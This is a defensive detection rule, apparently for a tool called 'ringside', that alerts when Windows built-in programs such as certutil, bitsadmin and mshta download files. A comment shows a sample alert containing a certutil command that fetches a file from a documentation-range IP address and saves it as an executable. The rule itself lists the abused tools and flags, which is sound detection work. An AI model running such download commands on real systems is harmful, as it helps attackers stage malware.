// ringside: title="Windows' own program fetches a file" technique=T1105,T1197,T1140 level=high tags=windows,command-and-control
//
// certutil, bitsadmin, mshta and their like are told an address. They come with Windows, so no new program has to be brought, and they were made
// for something else.
//
//     > ringside run lolbin-download.js -o line
//     time=2026-05-05T09:01:33.470000000Z level=high rule=lolbin-download message="CORP\\ada: certutil.exe -urlcache -split -f http://198.51.100.23/b.txt C:\\Users\\Public\\b.exe"
//
// Known false positives: certutil -URL and -verify, which administrators use, are left out; software that updates by bitsadmin.
// References: https://attack.mitre.org/techniques/T1105/ https://lolbas-project.github.io/#/download

import { shorten } from "ringside:text";

const address = /\b(https?|ftp):\/\/|\\\\[\w.-]+@(ssl|\d+)\\/i;

procs
    .where(
        os == "windows" &&
            ((name == "certutil" && cmdline.matches(/[-/](urlcache|verifyctl|decode(hex)?|encode)\b/i) && (cmdline.matches(address) || cmdline.matches(/\bdecode/i))) ||
                (name == "bitsadmin" && cmdline.matches(/\/(transfer|addfile|setnotifycmdline)\b/i)) ||
                (name.in(["mshta", "desktopimgdownldr", "ieexec", "presentationhost", "esentutl", "expand", "extrac32", "findstr", "hh", "makecab", "msxsl"]) && cmdline.matches(address)) ||
                (name.in(["esentutl", "expand", "extrac32", "findstr", "makecab"]) && cmdline.matches(/\s\\\\[\w.-]+\\\S+.*\s[A-Z]:\\/i) && cmdline.matches(/\\(temp|tmp|public|programdata)\\/i))),
    )
    .alert((e) => `${e.user}: ${shorten(e.cmdline)}`);
